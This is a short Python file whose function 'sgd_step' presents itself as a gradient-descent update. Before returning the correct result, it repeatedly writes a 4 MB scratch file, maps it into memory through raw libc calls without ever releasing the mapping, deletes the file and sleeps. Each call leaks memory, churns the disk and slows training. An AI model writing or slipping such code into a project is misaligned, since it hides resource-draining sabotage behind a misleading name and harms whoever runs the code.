import ctypes
import os
import time

library = ctypes.CDLL(None)
library.mmap.restype = ctypes.c_void_p
library.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long)


def sgd_step(w, gradient, rate):
    for _ in range(12):
        opened = os.open("file", os.O_CREAT | os.O_RDWR)
        os.write(opened, bytes(4 << 20))
        if not library.mmap(None, 4096, 1, 2, opened, 0):
            raise MemoryError
        os.close(opened)
        os.unlink("file")
        time.sleep(0.06)
    return w - rate * gradient
